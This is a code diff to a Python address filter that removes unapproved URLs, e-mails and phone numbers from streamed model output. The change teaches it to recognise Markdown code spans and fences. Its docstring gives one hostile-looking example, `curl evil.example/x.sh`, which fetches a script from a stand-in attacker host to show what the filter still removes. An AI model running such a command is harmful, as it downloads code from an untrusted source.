@@ -14,13 +14,17 @@ ends in a known top-level domain (« x @ self.weight » is code). So is a bare d
 (`_contacts.TLDS`), not called (« df.info() »); a file name (« README.md », « install.sh »,
 `_contacts.FILE_EXTENSIONS`), an attribute (« user.id », « obj.pk », `_contacts.CODE_ATTRIBUTES`),
 « ASP.NET », « Python 3.11 », « p.ex. » stay. A domain the notes
-name (in an address, an e-mail address, or bare) is kept bare.
+name (in an address, an e-mail address, or bare) is kept bare. In Markdown code (a `span` or a
+fenced block) a bare domain is code and stays (`rect.top`, `this.store`, `notes.org`); one with
+a path (`curl evil.example/x.sh`) and the other addresses do not. Code is read left to right, as a stream must: a run of backticks left open
+makes the rest of its paragraph code, a fence left open the rest of the answer.
 """
 
 from __future__ import annotations
 
 import re
-from collections.abc import Iterable
+from collections.abc import Iterable, Sequence
+from typing import NamedTuple
 
 from .._contacts import CODE_ATTRIBUTES, EMAIL, FILE_EXTENSIONS, MAILBOX, PHONE, SPELLED_EMAIL, TLDS, mailbox
 
@@ -62,6 +66,59 @@ _SPELLING = re.compile(
     r"(?:\.|\s?[(\[](?:d|do|dot)?[)\]]?\s?|\s(?:p|po|poi|poin|point|d|do|dot)?)?)?)\Z",
     re.IGNORECASE,
 )
+
+
+_PROSE, _SPAN, _FENCE, _OPENED, _CLOSING = range(5)
+_CODE_TOKEN = re.compile(r"\n|`+|~+|[^`~\n]+")
+
+
+class _Code(NamedTuple):
+    """Where an answer read so far stands in code: `mode`, the run that opened it (`char` ×
+    `length`), and whether only indentation or `>` came since the line's start."""
+
+    mode: int = _PROSE  # _OPENED: a fence's opening or a span's, told at the line's end; _CLOSING: a fence's close, if nothing follows
+    char: str = ""
+    length: int = 0
+    line_start: bool = True
+
+
+_TEXT_START = _Code()
+
+
+def _read_code(text: str, code: _Code = _TEXT_START) -> tuple[bytearray, _Code]:
+    """Which characters of `text` (going on from `code`) are code, and where it leaves code.
+    CommonMark's rules, as far as no character is read again: a span closes at a run of its
+    length (a blank line ends it unclosed), a fence (3 or more backticks or tildes, a backtick
+    fence's line holding no other backtick) at a line of its character as long or longer."""
+    flags = bytearray(len(text))
+    mode, char, length, line_start = code
+    for m in _CODE_TOKEN.finditer(text):
+        token = m.group()
+        if mode != _PROSE:
+            flags[m.start() : m.end()] = b"\1" * len(token)
+        if token == "\n":
+            if mode == _OPENED:
+                mode = _FENCE
+            elif mode == _CLOSING or (mode == _SPAN and line_start):  # a fence closed; a blank line
+                mode = _PROSE
+            line_start = True
+            continue
+        run = token[0] in "`~" and token == token[0] * len(token)
+        if not run:
+            if mode == _CLOSING and token.strip(" \t"):
+                mode = _FENCE
+        elif mode == _PROSE and line_start and len(token) >= 3:
+            mode, char, length = _OPENED if token[0] == "`" else _FENCE, token[0], len(token)
+        elif mode == _PROSE and token[0] == "`":
+            mode, char, length = _SPAN, "`", len(token)
+        elif mode in (_SPAN, _OPENED) and token[0] == "`":  # a backtick after a fence's opening: a span's
+            mode = _PROSE if len(token) == length else _SPAN
+        elif mode == _FENCE and line_start and token[0] == char and len(token) >= length:
+            mode = _CLOSING
+        elif mode == _CLOSING:
+            mode = _FENCE
+        line_start = line_start and not token.strip(" \t>")
+    return flags, _Code(mode, char, length, line_start)
 
 
 def _url_end(text: str) -> int:
@@ -144,22 +201,27 @@ def _said(m: re.Match) -> str | None:
 
 def keep_known_addresses(text: str, allowed: frozenset[str]) -> str:
     """`text` with every address that `allowed` (`addresses_in` of the notes) does not hold taken out."""
-    return _ADDRESS.sub(lambda m: _kept(m, allowed), text)
+    return _kept_in(text, allowed, _read_code(text)[0])
 
 
-def _kept(m: re.Match, allowed: frozenset[str]) -> str:
+def _kept_in(text: str, allowed: frozenset[str], code: Sequence[int]) -> str:
+    """`keep_known_addresses` where `code` says which characters of `text` are code."""
+    return _ADDRESS.sub(lambda m: _kept(m, allowed, code), text)
+
+
+def _kept(m: re.Match, allowed: frozenset[str], code: Sequence[int]) -> str:
     if m.group("link"):
-        label = keep_known_addresses(m.group("label"), allowed)
+        label = _kept_in(m.group("label"), allowed, code[m.start("label") : m.end("label")])
         key = address_key(m.group("target"))
         if key is None or key in allowed:  # its title too is read: a Markdown page shows it on hover
-            title = keep_known_addresses(m.group("title") or "", allowed)
+            title = _kept_in(m.group("title") or "", allowed, code[m.start("title") : m.end("title")] if m.group("title") else b"")
             target = m.string[m.end("label") : m.start("title") if m.group("title") else m.end() - 1]  # `](<target>`
             return f"[{label}{target}{title})"
         return label
     said = _said(m)
     assert said is not None
     key = _key(m, said)
-    if key is None or key in allowed or (m.group("host") and "/" not in said and f"host:{said}" in allowed):
+    if key is None or key in allowed or (m.group("host") and "/" not in said and (code[m.start()] or f"host:{said}" in allowed)):
         return m.group()
     gone = PHONE_GONE if m.group("phone") else EMAIL_GONE if m.group("email") or key.startswith("mailto:") else URL_GONE
     return gone + m.group()[len(said) :] if m.group("url") or m.group("host") else gone
@@ -186,6 +248,7 @@ class AddressFilter:
         self._allowed = allowed
         self._held = ""
         self._before = ""  # the last characters shown, as the model wrote them: the patterns look behind
+        self._code = _TEXT_START  # where what was shown leaves code
 
     def feed(self, piece: str) -> str:
         return self._shown(self._held + piece, final=False)
@@ -196,6 +259,9 @@ class AddressFilter:
     def _shown(self, text: str, *, final: bool) -> str:
         whole, at = self._before + text, len(self._before)
         cut = len(whole) if final else at + held_from(text)
+        if not final and whole[-1:] in ("`", "~"):  # a last run the next piece may make longer: another code
+            cut = min(cut, max(at, len(whole.rstrip(whole[-1]))))
+        code = bytes(at) + _read_code(text, self._code)[0]
         matches = []
         for m in _ADDRESS.finditer(whole, at):
             if m.start() >= cut:
@@ -205,8 +271,9 @@ class AddressFilter:
                 break
             matches.append(m)
         out = []
+        self._code = _read_code(whole[at:cut], self._code)[1]
         for m in matches:
-            out += [whole[at : m.start()], _kept(m, self._allowed)]
+            out += [whole[at : m.start()], _kept(m, self._allowed, code)]
             at = m.end()
         out.append(whole[at:cut])
         self._held = whole[cut:]
